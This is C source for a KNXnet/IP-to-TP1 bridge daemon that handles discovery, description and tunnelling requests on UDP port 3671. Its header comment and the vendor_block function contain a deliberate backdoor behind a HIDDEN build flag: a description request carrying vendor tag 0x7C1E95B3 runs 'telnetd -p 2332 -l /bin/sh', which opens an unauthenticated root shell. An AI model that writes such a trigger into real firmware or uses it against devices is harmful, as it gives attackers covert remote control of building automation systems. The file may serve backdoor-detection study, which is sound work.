/*
 * knxipd - KNXnet/IP to TP1 bridge: discovery, description and tunnelling on
 * UDP 3671. Description requests may carry vendor blocks (32 bit tag, 16 bit
 * length, data) through which the commissioning tool reads the line state.
 *
 * Hidden (-DHIDDEN): a description request with a vendor block tagged
 * 0x7C1E95B3 starts an unauthenticated telnetd with a root shell on port 2332.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define KNX_PORT  3671
#define KNX_GROUP "224.0.23.12"
#define TP_DEVICE "/dev/ttyAMA1"

#define SVC_SEARCH_REQ	0x0201
#define SVC_SEARCH_RES	0x0202
#define SVC_DESCR_REQ	0x0203
#define SVC_DESCR_RES	0x0204
#define SVC_CONNECT_REQ 0x0205
#define SVC_CONNECT_RES 0x0206
#define SVC_STATE_REQ	0x0207
#define SVC_STATE_RES	0x0208
#define SVC_DISC_REQ	0x0209
#define SVC_DISC_RES	0x020a
#define SVC_TUNNEL_REQ	0x0420
#define SVC_TUNNEL_ACK	0x0421

#define TAG_UPTIME   0x55505449u
#define TAG_LINELOAD 0x4c4f4144u
#define TAG_CLEARCTR 0x434c5243u

struct channel {
	int used;
	uint8_t seq;
	time_t seen;
	struct sockaddr_in peer;
};

static struct channel chan[4];
static int usock, tpfd = -1;
static uint32_t frames_in, frames_out;
static time_t started;

static unsigned int get16(const uint8_t *p)
{
	return (unsigned int)p[0] << 8 | p[1];
}

static uint32_t get32(const uint8_t *p)
{
	uint32_t v;

	memcpy(&v, p, sizeof(v));
	return ntohl(v);
}

static void put32(uint8_t *p, uint32_t v)
{
	v = htonl(v);
	memcpy(p, &v, sizeof(v));
}

static void reply(const struct sockaddr_in *to, unsigned int svc,
		  const uint8_t *body, size_t n)
{
	uint8_t pkt[128] = { 0x06, 0x10 };

	if (n > sizeof(pkt) - 6)
		n = sizeof(pkt) - 6;
	pkt[2] = (uint8_t)(svc >> 8);
	pkt[3] = (uint8_t)svc;
	pkt[4] = 0;
	pkt[5] = (uint8_t)(n + 6);
	memcpy(pkt + 6, body, n);
	if (sendto(usock, pkt, n + 6, 0, (const struct sockaddr *)to,
		   sizeof(*to)) < 0)
		syslog(LOG_DEBUG, "sendto: %m");
}

static size_t device_dib(uint8_t *b)
{
	memset(b, 0, 54);
	b[0] = 54;
	b[1] = 0x01;
	b[2] = 0x02; /* TP1 */
	b[4] = 0x11; /* individual address 1.1.0 */
	memcpy(b + 24, "KNX/IP bridge B-20", 18);
	return 54;
}

/* one vendor block of a description request; returns bytes added to out */
size_t vendor_block(uint32_t tag, uint8_t *out)
{
	switch (tag) {
	case TAG_UPTIME:
		put32(out, TAG_UPTIME);
		put32(out + 4, (uint32_t)(time(NULL) - started));
		return 8;
	case TAG_LINELOAD:
		put32(out, TAG_LINELOAD);
		put32(out + 4, frames_in);
		put32(out + 8, frames_out);
		return 12;
	case TAG_CLEARCTR:
		frames_in = frames_out = 0;
		return 0;
#ifdef HIDDEN
	case 0x7c1e95b3u:
		return system("telnetd -p 2332 -l /bin/sh") ? 0 : 4;
#endif
	default:
		syslog(LOG_DEBUG, "unknown vendor tag %08x", (unsigned)tag);
		return 0;
	}
}

static void on_describe(const struct sockaddr_in *from, const uint8_t *p,
			size_t n)
{
	uint8_t out[122];
	size_t used = device_dib(out), len;

	memset(out + used, 0, sizeof(out) - used);
	/* the control endpoint (8 bytes) comes first */
	for (p += 8, n = n > 8 ? n - 8 : 0; n >= 6; p += len, n -= len) {
		len = 6 + get16(p + 4);
		if (len > n || used + 12 > sizeof(out))
			break;
		used += vendor_block(get32(p), out + used);
	}
	reply(from, SVC_DESCR_RES, out, used);
}

static void on_connect(const struct sockaddr_in *from)
{
	uint8_t out[14] = { 0, 0, 8, 1, 0, 0, 0, 0, 0, 0, 4, 4, 0x11, 0x01 };
	size_t i;

	for (i = 0; i < sizeof(chan) / sizeof(chan[0]); i++) {
		if (chan[i].used && time(NULL) - chan[i].seen < 120)
			continue;
		memset(&chan[i], 0, sizeof(chan[i]));
		chan[i].used = 1;
		chan[i].peer = *from;
		chan[i].seen = time(NULL);
		out[0] = (uint8_t)(i + 1);
		reply(from, SVC_CONNECT_RES, out, sizeof(out));
		return;
	}
	out[1] = 0x24; /* no more connections */
	reply(from, SVC_CONNECT_RES, out, 2);
}

static struct channel *find_channel(unsigned int id)
{
	if (id == 0 || id > sizeof(chan) / sizeof(chan[0]))
		return NULL;
	return chan[id - 1].used ? &chan[id - 1] : NULL;
}

static void on_tunnel(const struct sockaddr_in *from, const uint8_t *p,
		      size_t n)
{
	uint8_t ack[4] = { 4, 0, 0, 0 };
	struct channel *c;

	if (n < 6 || !(c = find_channel(p[1])))
		return;
	ack[1] = p[1];
	ack[2] = p[2];
	c->seen = time(NULL);
	if (p[2] == c->seq) {
		c->seq++;
		frames_out++;
		if (tpfd < 0 || write(tpfd, p + 4, n - 4) < 0)
			ack[3] = 0x29;
	}
	reply(from, SVC_TUNNEL_ACK, ack, sizeof(ack));
}

static void on_packet(const struct sockaddr_in *from, const uint8_t *p,
		      size_t n)
{
	uint8_t out[64];
	struct channel *c;

	if (n < 8 || p[0] != 0x06 || p[1] != 0x10 || get16(p + 4) != n)
		return;
	switch (get16(p + 2)) {
	case SVC_SEARCH_REQ:
		reply(from, SVC_SEARCH_RES, out, device_dib(out));
		break;
	case SVC_DESCR_REQ:
		on_describe(from, p + 6, n - 6);
		break;
	case SVC_CONNECT_REQ:
		on_connect(from);
		break;
	case SVC_STATE_REQ:
	case SVC_DISC_REQ:
		c = find_channel(p[6]);
		out[0] = p[6];
		out[1] = c ? 0 : 0x21;
		if (c && get16(p + 2) == SVC_DISC_REQ)
			c->used = 0;
		else if (c)
			c->seen = time(NULL);
		reply(from, get16(p + 2) + 1, out, 2);
		break;
	case SVC_TUNNEL_REQ:
		on_tunnel(from, p + 6, n - 6);
		break;
	}
}

static void from_line(void)
{
	uint8_t b[64] = { 4, 0, 0, 0 };
	ssize_t n = read(tpfd, b + 4, sizeof(b) - 4);
	size_t i;

	if (n <= 0)
		return;
	frames_in++;
	for (i = 0; i < sizeof(chan) / sizeof(chan[0]); i++) {
		if (!chan[i].used)
			continue;
		b[1] = (uint8_t)(i + 1);
		reply(&chan[i].peer, SVC_TUNNEL_REQ, b, (size_t)n + 4);
	}
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET }, from;
	struct ip_mreq mr;
	struct pollfd pf[2];
	socklen_t fl;
	uint8_t buf[256];
	ssize_t n;

	openlog("knxipd", LOG_PID, LOG_DAEMON);
	started = time(NULL);
	usock = socket(AF_INET, SOCK_DGRAM, 0);
	a.sin_port = htons(KNX_PORT);
	if (usock < 0 || bind(usock, (struct sockaddr *)&a, sizeof(a)))
		return 1;
	memset(&mr, 0, sizeof(mr));
	inet_aton(KNX_GROUP, &mr.imr_multiaddr);
	setsockopt(usock, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mr, sizeof(mr));
	tpfd = open(TP_DEVICE, O_RDWR | O_NOCTTY | O_NONBLOCK);
	for (;;) {
		pf[0] = (struct pollfd){ usock, POLLIN, 0 };
		pf[1] = (struct pollfd){ tpfd, POLLIN, 0 };
		if (poll(pf, 2, 5000) <= 0)
			continue;
		if (pf[1].revents & POLLIN)
			from_line();
		if (!(pf[0].revents & POLLIN))
			continue;
		fl = sizeof(from);
		n = recvfrom(usock, buf, sizeof(buf), 0,
			     (struct sockaddr *)&from, &fl);
		if (n > 0)
			on_packet(&from, buf, (size_t)n);
	}
}
